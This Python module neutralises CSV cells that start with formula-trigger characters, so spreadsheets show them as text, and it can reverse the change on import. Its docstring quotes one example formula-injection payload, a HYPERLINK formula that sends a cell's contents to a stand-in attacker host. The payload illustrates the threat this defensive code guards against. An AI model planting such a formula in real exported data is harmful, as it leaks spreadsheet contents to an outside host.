"""CSV cells that a spreadsheet shows as text, never runs as a formula (CSV injection).

A cell such as ``=HYPERLINK("http://evil/?"&A1, "click")`` written verbatim into a CSV
becomes a live formula when the file is opened in Excel, LibreOffice or Google Sheets.
Image ids, class names, annotator names and prompts all come from people or file names,
so every CSV this project writes for people passes its cells through
:func:`neutralize_cell` (the OWASP rule: a text cell starting with ``=``, ``+``, ``-``,
``@``, a tab or a carriage return is prefixed with a single quote, which spreadsheets
treat as "show this as text" and do not display).

The prefix is reversible: a text cell that already starts with a quote is quoted once
more, so :func:`restore_cell` gives back exactly the original text (the label import
uses it, so an exported file imports again unchanged). Numbers are left as numbers.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Mapping, Sequence
from typing import Any, TextIO

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_QUOTE = "'"


def neutralize_cell(value: Any) -> Any:
    """The value to write into a CSV cell: text that could start a formula gets a leading ``'``.

    Args:
        value: A cell value; only ``str`` values are changed (ints, floats, None pass through).

    Returns:
        The value, prefixed with ``'`` when it is text starting with a formula trigger
        (or with a quote, to keep the prefix reversible).
    """
    if isinstance(value, str) and value and (value[0] in FORMULA_TRIGGERS or value[0] == _QUOTE):
        return _QUOTE + value
    return value


def restore_cell(text: str) -> str:
    """Undo :func:`neutralize_cell` on a cell read back from a CSV written by it."""
    if len(text) >= 2 and text[0] == _QUOTE and (text[1] in FORMULA_TRIGGERS or text[1] == _QUOTE):
        return text[1:]
    return text


class SafeDictWriter(csv.DictWriter):
    """``csv.DictWriter`` whose every text cell goes through :func:`neutralize_cell`."""

    def writerow(self, rowdict: Mapping[str, Any]) -> Any:  # noqa: D102 - as csv.DictWriter
        return super().writerow({k: neutralize_cell(v) for k, v in rowdict.items()})

    def writerows(self, rowdicts: Iterable[Mapping[str, Any]]) -> None:  # noqa: D102 - as csv.DictWriter
        for row in rowdicts:
            self.writerow(row)


def write_rows(handle: TextIO, header: Sequence[str], rows: Iterable[Sequence[Any]]) -> None:
    """Write a header and rows as CSV, every text cell neutralised."""
    writer = csv.writer(handle, lineterminator="\n")
    writer.writerow([neutralize_cell(h) for h in header])
    for row in rows:
        writer.writerow([neutralize_cell(v) for v in row])
